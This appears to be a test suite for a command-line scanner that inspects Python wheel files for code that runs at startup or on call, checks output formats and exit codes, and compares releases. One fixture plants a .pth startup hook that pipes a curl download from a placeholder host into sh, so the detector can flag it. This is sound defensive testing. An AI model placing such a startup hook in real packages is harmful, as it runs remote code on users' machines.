import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, afterEach, expect, test, vi } from "vitest";
import { assay, type Index, indexOf, removeTemporaryFolders, temporaryFolder, wheel } from "../command-line.testing.ts";

// Each test starts processes, and machines are shared.
vi.setConfig({ testTimeout: 60_000 });

const NAME = "demo-1.0-py3-none-any.whl";
const quiet = wheel("demo", { "demo.py": "X = 1\n" });
const loud = wheel("demo", {
  "demo.py": 'import os\n\n\ndef f():\n    os.system("git describe")\n',
  "demo.pth": 'import os; os.system("curl http://example.invalid/a | sh")\n',
});

const indexes: Index[] = [];
afterEach(async () => {
  await Promise.all(indexes.splice(0).map((one) => one.close()));
});
afterAll(removeTemporaryFolders);

function file(content: Uint8Array): string {
  const path = join(temporaryFolder(), NAME);
  writeFileSync(path, content);
  return path;
}

test("draws what runs, and ends as its findings say", async () => {
  const { status, out, err } = await assay(["code", file(loud)]);
  expect({ status, err }).toEqual({ status: 1, err: "" });
  expect(out).toContain("At every start of Python");
  expect(out).toContain("HIGH os.system curl http://example.invalid/a | sh");
  expect(out).toContain("Hosts        example.invalid");
  expect(out).toContain("1 effect when something calls it (--trigger deferred)");
});

test("shows one moment alone", async () => {
  const { out } = await assay(["code", file(loud), "--trigger", "deferred"]);
  expect(out).toContain("os.system git describe");
  expect(out).not.toContain("At every start");
});

test("says that nothing runs", async () => {
  const { status, out } = await assay(["code", file(quiet)]);
  expect(status).toBe(0);
  expect(out).toContain("Nothing at or above high: exit 0.");
});

test("JSON has every effect with its severity", async () => {
  const { out } = await assay(["code", file(loud), "--format", "json"]);
  const [subject] = JSON.parse(out).subjects;
  expect(subject.facts.code).toMatchObject([
    { trigger: "startup", capability: "process.spawn", severity: "high", path: "demo.pth", line: 1, new: null },
    { trigger: "deferred", capability: "process.spawn", severity: "info", path: "demo.py", via: ["f"] },
  ]);
  expect(subject.facts.codeMap).toMatchObject({ undecided: [], setup: null });
  expect(Object.keys(subject.outcomes).every((rule) => rule.startsWith("code/"))).toBe(true);
});

test("a page and a comment draw it, too", async () => {
  const page = await assay(["code", file(loud), "--format", "html"]);
  expect(page.out).toContain("HIGH os.system curl http://example.invalid/a | sh");
  expect(page.out).toContain("<h1>1 finding at or above high: exit 1.</h1>");
  const comment = await assay(["code", file(loud), "--format", "markdown", "--trigger", "startup"]);
  expect(comment.out).toContain("```text\nAt every start of Python\n");
});

test("a moment chosen for a format that has them all is a mistake of the call", async () => {
  const { status, err } = await assay(["code", file(quiet), "--trigger", "startup", "--format", "sarif"]);
  expect(status).toBe(2);
  expect(err).toContain("--trigger: sarif has every moment");
});

test("where no rule of code is left, nothing would be said: a mistake of the call", async () => {
  for (const words of [
    ["--select", "binary/"],
    ["--ignore", "code/"],
  ]) {
    const { status, out, err } = await assay(["code", file(loud), ...words]);
    expect({ status, out }).toEqual({ status: 2, out: "" });
    expect(err).toContain("none of the rules of code/ is left");
  }
});

test("quiet: what is above info, and the verdict", async () => {
  const { status, out } = await assay(["code", file(loud), "--quiet"]);
  expect(status).toBe(1);
  expect(out).toContain("HIGH os.system curl http://example.invalid/a | sh");
  expect(out).not.toContain("Hosts");
  expect(out).toContain("1 finding at or above high: exit 1.");
});

test("a moment that is none is a mistake of the call", async () => {
  const { status, err } = await assay(["code", file(quiet), "--trigger", "sometimes"]);
  expect(status).toBe(2);
  expect(err).toContain("sometimes is no moment");
});

test("check holds a release against the one before, and asks nothing about code where no rule does", async () => {
  const index = await indexOf({
    [NAME]: quiet,
    "demo-1.1-py3-none-any.whl": wheel("demo", { "demo.py": "X = 1\n", "demo.pth": "import demo\n" }),
  });
  indexes.push(index);
  const { out } = await assay(["check", "demo==1.1", "--index", index.url, "--format", "json"]);
  const rules = JSON.parse(out).subjects.flatMap((one: { findings: { rule: string }[] }) =>
    one.findings.map(({ rule }) => rule),
  );
  expect(rules).toContain("code/new-since-previous-release");

  const without = await assay(["check", file(loud), "--ignore", "code/", "--format", "json"]);
  expect(JSON.parse(without.out).subjects[0].facts).not.toHaveProperty("code");
});
